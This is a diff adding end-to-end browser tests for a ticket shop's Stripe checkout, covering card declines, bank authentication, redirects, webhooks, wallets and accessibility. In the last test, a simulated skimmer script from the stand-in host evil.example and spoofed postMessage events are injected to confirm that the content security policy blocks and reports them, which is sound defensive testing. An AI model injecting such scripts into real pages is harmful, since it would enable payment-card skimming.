@@ -1,0 +1,174 @@
+import AxeBuilder from "@axe-core/playwright";
+import type { Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
+import { scriptAt } from "../apps/server/src/page/scripts.testing.ts";
+import type { StripeDouble } from "../apps/server/src/outside/payments/stripeDouble.testing.ts";
+import { ordersOf } from "./books.ts";
+import { cards, fillCart, introduceYourself, isAtCheckout, isDone, newAddress, pay, shownButton } from "./shop.ts";
+import { bank, fields, meetStripe, openPier, tellByHook } from "./stripeShop.ts";
+import { newVisitor, phone } from "./visitor.ts";
+
+const wanted = { seller: "pier", event: "General Admission", ticket: "Adult", count: 1 };
+const payments = /\/my\/cart\/[^/]+\/(?:pay|guest_checkout)\b/;
+
+let stripe: StripeDouble;
+beforeAll(async () => {
+  stripe = await openPier();
+});
+afterEach(() => {
+  expect(stripe.faults).toEqual([]);
+});
+afterAll(() => stripe.close());
+
+/** At the checkout of a filled cart, with the vendor's fields there. */
+const arrive = async (page: Page): Promise<string> => {
+  const email = newAddress();
+  await fillCart(page, wanted);
+  await fields(page).getByRole("radio", { name: "Card" }).waitFor();
+  await introduceYourself(page, email);
+  return email;
+};
+/** What went wrong is brought into focus a moment after it is said: nobody types faster than that. */
+const typeCard = async (page: Page, number: string): Promise<void> => {
+  const field = fields(page).getByLabel("Card number");
+  await expect
+    .poll(async () => {
+      await field.fill(number);
+      return field.inputValue();
+    })
+    .toBe(number);
+};
+const received = () => [...stripe.books.intents.values()].map(({ status, received: sum }) => [status, sum]);
+const last = (): string => [...stripe.books.intents.keys()].at(-1) ?? "";
+
+test("a card: declined, then one whose bank asks in the page and is refused, then confirmed; only scripts of the inventory ran", async () => {
+  const page = await newVisitor({ refusals: payments });
+  await meetStripe(page, stripe);
+  const ran: string[] = [];
+  page.on("response", (answer) => {
+    if (answer.request().resourceType() === "script" && answer.frame() === page.mainFrame()) ran.push(answer.url());
+  });
+  await page.goto("/pier/events");
+  const beforeCheckout = [...ran];
+  const email = await arrive(page);
+  expect(beforeCheckout.filter((address) => address.includes("stripe"))).toEqual([]);
+
+  await typeCard(page, cards.declined);
+  await pay(page);
+  await page.getByText("Your card has not been charged. Your card was declined.").waitFor();
+
+  await typeCard(page, cards.bank);
+  await pay(page);
+  await bank(page).getByRole("link", { name: "refuse" }).click();
+  await page.getByText("Your card has not been charged. We are unable to authenticate your payment method.").waitFor();
+  expect(await ordersOf(email)).toBe(0);
+  expect(await page.getByLabel("First name").inputValue()).toBe("Ada");
+
+  await pay(page);
+  await bank(page).getByRole("link", { name: "agree" }).click();
+  await isDone(page);
+  expect(await ordersOf(email)).toBe(1);
+  expect(received().slice(-3)).toEqual([
+    ["canceled", 0],
+    ["canceled", 0],
+    ["succeeded", 2950],
+  ]);
+  const { origin } = new URL(page.url());
+  const kinds = new Set(ran.map((address) => scriptAt(address, origin)?.source ?? `unknown: ${address}`));
+  expect([...kinds].toSorted()).toEqual(["/assets/files/*.js", "https://js.stripe.com/endive/stripe.js"]);
+});
+
+test("a bank on a page of its own: refused and back, then agreed and back; no secret stays in the address", async () => {
+  const page = await newVisitor({ refusals: payments });
+  await meetStripe(page, stripe);
+  const email = await arrive(page);
+  await fields(page).getByRole("radio", { name: "Klarna" }).check();
+  await pay(page);
+  await page.getByRole("link", { name: "refuse" }).click();
+  await isAtCheckout(page);
+  await page.getByText("Your card has not been charged. We are unable to authenticate your payment method.").waitFor();
+  expect(new URL(page.url()).search).toBe("");
+  expect(await ordersOf(email)).toBe(0);
+
+  await introduceYourself(page, email);
+  await fields(page).getByRole("radio", { name: "Klarna" }).check();
+  await pay(page);
+  await page.getByRole("link", { name: "agree" }).click();
+  await isDone(page);
+  expect(page.url()).not.toContain("secret");
+  expect(await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }))).not.toMatch(/secret|@/);
+  expect(await ordersOf(email)).toBe(1);
+});
+
+test("a debit is waited for, and the vendor's word completes it", async () => {
+  const page = await newVisitor({ viewport: phone, refusals: payments });
+  await meetStripe(page, stripe);
+  const email = await arrive(page);
+  await fields(page).getByRole("radio", { name: "US bank account" }).check();
+  await pay(page);
+  await page.waitForURL(/\/pier\/checkout\/pending\//);
+  expect(await ordersOf(email)).toBe(0);
+  stripe.books.clear(last(), true);
+  expect(await tellByHook(stripe, "payment_intent.succeeded", last())).toBe(200);
+  await isDone(page);
+  expect(await ordersOf(email)).toBe(1);
+});
+
+test("a wallet has a button of its own, whose sheet opens within the press", async () => {
+  const page = await newVisitor({ viewport: phone, refusals: payments });
+  await meetStripe(page, stripe, { wallet: true });
+  const email = await arrive(page);
+  await fields(page).getByRole("radio", { name: "Card" }).check();
+  await shownButton(page, "Pay $29.50").waitFor();
+  await fields(page).getByRole("radio", { name: "Google Pay" }).check();
+  await shownButton(page, "Pay with Google Pay").click();
+  await isDone(page);
+  expect(await ordersOf(email)).toBe(1);
+});
+
+test("where the script is blocked that is said, and the rest of the page works", async () => {
+  const page = await newVisitor({ refusals: payments });
+  await meetStripe(page, stripe, { blocked: true });
+  await fillCart(page, wanted);
+  await page
+    .getByText(
+      "Credit card payment can not be processed because the card payment provider was unable to load. Try disabling any privacy blockers and ad blockers, and reloading the page.",
+    )
+    .waitFor();
+  await introduceYourself(page, newAddress());
+  await page.getByRole("button", { name: "More about General Admission" }).click();
+  await page.getByRole("dialog").waitFor();
+});
+
+test("nobody else's script runs there, nobody else's word is heard, and both are told", async () => {
+  const page = await newVisitor({ refusals: payments, mishaps: /Content Security Policy/ });
+  await meetStripe(page, stripe);
+  await arrive(page);
+  // The page listens to no message itself, and the vendor's script to none but its own frames' (T121).
+  await page.evaluate(() => {
+    for (const said of [
+      { kind: "change", type: "google_pay" },
+      { kind: "decided" },
+      { type: "payment_intent.succeeded" },
+    ])
+      window.postMessage(said, "*");
+    const frame = document.body.appendChild(document.createElement("iframe"));
+    frame.contentWindow?.parent.postMessage({ kind: "change", type: "google_pay" }, "*");
+    frame.remove();
+  });
+  const told = page.waitForResponse((answer) => answer.url().endsWith("/_reports/csp"));
+  await page.evaluate(() => {
+    Object.assign(window, { stolen: false });
+    const inline = document.createElement("script");
+    inline.textContent = "window.stolen = true";
+    const foreign = document.createElement("script");
+    foreign.src = "https://evil.example/skim.js";
+    document.head.append(inline, foreign);
+  });
+  expect((await told).status()).toBe(204);
+  expect(await page.evaluate(() => "stolen" in window && window.stolen)).toBe(false);
+  await shownButton(page, "Pay $29.50").waitFor();
+
+  const { violations } = await new AxeBuilder({ page }).setLegacyMode().analyze();
+  expect(violations.map(({ id, nodes }) => [id, nodes.map(({ target }) => target.join(" "))])).toEqual([]);
+});
